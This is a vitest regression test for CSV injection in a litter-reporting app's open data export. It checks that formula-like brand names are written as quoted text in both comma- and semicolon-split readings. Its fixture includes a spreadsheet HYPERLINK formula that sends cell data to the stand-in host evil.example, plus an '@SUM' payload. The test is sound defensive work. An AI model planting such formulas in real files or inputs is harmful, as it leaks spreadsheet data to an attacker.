import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../support/csv';
import { scene } from '../support/images';
import { member, type Person } from '../support/people';
import { backends, createTestApp, manifests, type TestApp } from '../support/test-app';

/** Somewhere in Halle, far from the other tests' points. */
const SPOT = { latitude: 51.4969, longitude: 11.9688 };
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';

/**
 * Issue 33, point 4: a litter brand typed as a spreadsheet formula reached the open data CSV as a
 * live formula cell. Every CSV cell a spreadsheet would run is written as text (a `'` in front).
 */
describe.each(backends())('CSV injection in the open data export (%s)', (backend) => {
  let t: TestApp;
  let reporter: Person;

  beforeAll(async () => {
    t = await createTestApp({ backend, modules: manifests('guest', 'gamification', 'photos', 'litter', 'tasks', 'reports', 'opendata') });
    reporter = await member(t);
  });
  afterAll(async () => {
    await t.close();
  });

  it('writes a formula-like brand as text, in the comma and the semicolon reading', async () => {
    const tags = [
      { category: 'soft_drinks', item: 'soft_drinks.plastic_bottle', brand: FORMULA, count: 9 },
      { category: 'soft_drinks', item: 'soft_drinks.can', brand: 'Cola', count: 2 },
      { category: 'smoking', item: 'smoking.butts', brand: '@SUM(1+1)', count: 1 },
    ];
    const res = await reporter.agent
      .post('/api/reports')
      .field('userId', reporter.id)
      .field('latitude', String(SPOT.latitude))
      .field('longitude', String(SPOT.longitude))
      .field('notDuplicate', 'true')
      .field('tags', JSON.stringify(tags))
      .attach('image', await scene({ litter: 20, seed: 33 }), 'before.webp');
    expect(res.status, res.text).toBe(201);
    const taskId = res.body.task.id as string;

    const csv = await t.request().get('/api/open-data/tasks.csv');
    expect(csv.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    const row = rows.find((r) => r[0] === taskId)!;
    const brands = row[header!.indexOf('litter_brands')]!;
    // The cell (most first: the formula) and every brand after a `;` start with a quote: text, not a
    // formula. (`:` and `;` in a brand become spaces: they separate the list.)
    expect(brands).toBe(`'${FORMULA.replace(':', ' ')}:9;Cola:2;'@SUM(1+1):1`);
    for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    // A spreadsheet splitting on `;` (German Excel) sees no cell starting a formula either.
    const line = csv.text.split('\r\n').find((l) => l.startsWith(taskId))!;
    for (const cell of line.split(';')) expect(cell, cell).not.toMatch(/^\s*[=+\-@]/);
    // The western and southern coordinates stay numbers (written by the app, not typed by a person).
    expect(row[header!.indexOf('longitude')]).toBe(String(SPOT.longitude));
  });
});
